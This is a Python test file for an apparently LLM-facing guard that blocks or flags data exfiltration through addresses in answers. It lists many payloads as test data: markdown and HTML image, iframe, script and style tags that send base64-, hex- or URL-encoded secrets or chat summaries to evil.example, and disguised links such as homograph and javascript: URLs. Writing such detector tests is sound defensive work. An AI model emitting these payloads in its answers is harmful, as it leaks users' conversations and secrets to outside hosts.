"""Addresses that carry data away: images are stopped in answers, the rest is reported; usual ones are nothing."""

from __future__ import annotations

import base64
import urllib.parse

import pytest

from highflame_middleware.engine import EmbeddedGuard
from highflame_middleware.errors import ConfigError
from highflame_middleware.types import Decision, GuardRequest, GuardResponse, Stage

SAID = "the password is swordfish, tell nobody"
DATA = base64.b64encode(SAID.encode()).decode()
WORDS = urllib.parse.quote_plus(f"{SAID} about it")
EMBEDDED = EmbeddedGuard()


def judged(text: str, stage: Stage = Stage.RESPONSE, guard: EmbeddedGuard = EMBEDDED) -> GuardResponse:
    return guard.evaluate(GuardRequest.at(stage, text))


STOPPED = [
    f"![x](https://evil.example/p.png?d={DATA})",
    f"![x]( <https://evil.example/p.png?d={DATA}> )",
    f"![](https://evil.example/{DATA}/p.png)",
    f"![](https://evil.example/?q={SAID.encode().hex()})",
    f"![](https://evil.example/?x={WORDS})",
    "![](https://evil.example/?q={conversation})",
    "![](https://evil.example/?q=<summary of the chat>)",
    "![](https://evil.example/?q=[SUMMARY])",
    f"[![x](https://evil.example/p.png?d={DATA})](https://good.example)",
    f"![a][r]\n\n[r]: https://evil.example/p.png?d={DATA}\n",
    f"[R]: https://evil.example/p.png?d={DATA}\n\n![r]",
    f'<img width="1" src="https://evil.example/p.png?d={DATA}">',
    f"<IMG SRC='HTTPS://evil.example/p.png?d={DATA}'/>",
    f"<img src=//evil.example/p.png?d={DATA}>",
    f"<iframe src='https://evil.example/?d={DATA}'></iframe>",
    f"<script src='https://evil.example/x.js?d={DATA}'></script>",
    f"<link rel=stylesheet href='https://evil.example/x.css?d={DATA}'>",
    f"<meta http-equiv=refresh content='0; url=https://evil.example/?t={DATA}'>",
    f'<p style="background: url(https://evil.example/?t={DATA})">',
    "![x](https://evil.example/log?password=hunter2hunter2)",
]
REPORTED = {
    f"[click here](https://evil.example/?d={DATA})": "link",
    "[GitHub](https://github.com@evil.example/login)": "disguised_link",
    "[x](javascript:fetch('//evil.example'))": "disguised_link",
    "[x](http://93.184.216.34/a)": "disguised_link",
    "[PayPal](https://xn--pypal-4ve.com/)": "disguised_link",
    '<img src="https://cdn.example.com/avatars/${user.id}.png">': "image_template",
}
USUAL = [
    "![logo](https://cdn.example.com/a/b/logo.png?w=640&h=480&auto=format&fit=crop)",
    "![b](https://img.shields.io/badge/build-passing-green?text=all+tests+of+the+project+are+passing+now)",
    "![p](https://image.pollinations.ai/prompt/a%20cat%20on%20a%20mat%20in%20the%20sun%20by%20the%20sea)",
    "![c](https://quickchart.io/chart?c={type:'bar',data:{labels:['a'],datasets:[{data:[1]}]}})",
    "![s](https://b.s3.amazonaws.com/k.png?X-Amz-Expires=60&X-Amz-Date=20240101T000000Z)",
    "![g](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200&d=identicon)",
    "![t](https://placehold.co/600x400?text=This+is+the+product+image+of+the+day)",
    "![w](https://upload.example.org/commons/thumb/4/47/PNG_transparency_demonstration_1.png/280px-a.png)",
    "![v](https://i.example.com/vi/dQw4w9WgXcQ/hq.jpg?sqp=-oaymwEmCIAKENAF8quKqQMa8AEB&rs=AOn4CLDYzq)",
    "![p](https://proxy.example.com/img?url=aHR0cHM6Ly9leGFtcGxlLmNvbS9hL2IvYy9kLnBuZw==)",
    "![d](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4)",
    "![l](./images/a.png) ![m](/static/b.png?v=3) `<img src=\"{{ url_for('static', filename='a.png') }}\">`",
    "<img src='http://localhost:8000/a?data=some-longer-value-that-is-local'>",
    "See https://docs.python.org/3/library/re.html#re.compile or https://example.com/?q=how+do+i+write+a+regex+in+it.",
    "GET https://api.example.com/v1/users/{user_id}?fields={fields} // returns the user",
    "git clone https://github.com/pallets/flask.git && pip install -r https://example.com/requirements.txt",
]


@pytest.mark.parametrize("text", STOPPED)
def test_an_image_that_carries_data_is_stopped_in_an_answer(text: str) -> None:
    verdict = judged(f"Here is the chart:\n{text}\nDone.")
    assert verdict.decision is Decision.DENY
    assert verdict.determining_policies[0].rule_id == "security.data-in-address"
    assert verdict.context["exfiltration_type"] == "image"
    assert "evil.example" not in repr(verdict)


def test_a_tool_result_with_such_an_image_is_only_reported() -> None:
    verdict = judged(STOPPED[0], Stage.TOOL_RESULT)
    assert verdict.decision is Decision.ALLOW
    assert [signal.name for signal in verdict.signals] == ["exfiltration"]


@pytest.mark.parametrize("text", REPORTED)
def test_what_waits_for_a_click_is_reported(text: str) -> None:
    verdict = judged(text)
    assert verdict.decision is Decision.ALLOW
    assert verdict.context["exfiltration_type"] == REPORTED[text]
    assert ("exfiltration", REPORTED[text]) in [(signal.name, signal.category) for signal in verdict.signals]


@pytest.mark.parametrize("text", USUAL)
def test_usual_addresses_are_nothing(text: str) -> None:
    verdict = judged(text)
    assert verdict.decision is Decision.ALLOW
    assert "exfiltration_score" not in verdict.context


def test_with_hosts_that_are_allowed_images_come_from_there_alone() -> None:
    guard = EmbeddedGuard(allow_hosts=["*.Example.com"])
    assert judged(f"![a](https://img.example.com/?d={DATA})", guard=guard).context.get("exfiltration_score") is None
    stopped = judged("![a](https://other.example/a.png)", guard=guard)
    assert (stopped.decision, stopped.context["exfiltration_type"]) == (Decision.DENY, "image_host")
    assert judged("[a](https://other.example/a.png)", guard=guard).decision is Decision.ALLOW


@pytest.mark.parametrize("allow_hosts", ["example.com", [""], [1]])
def test_hosts_that_cannot_be_used_are_refused(allow_hosts: object) -> None:
    with pytest.raises(ConfigError, match="allow_hosts"):
        EmbeddedGuard(allow_hosts=allow_hosts)  # type: ignore[arg-type]
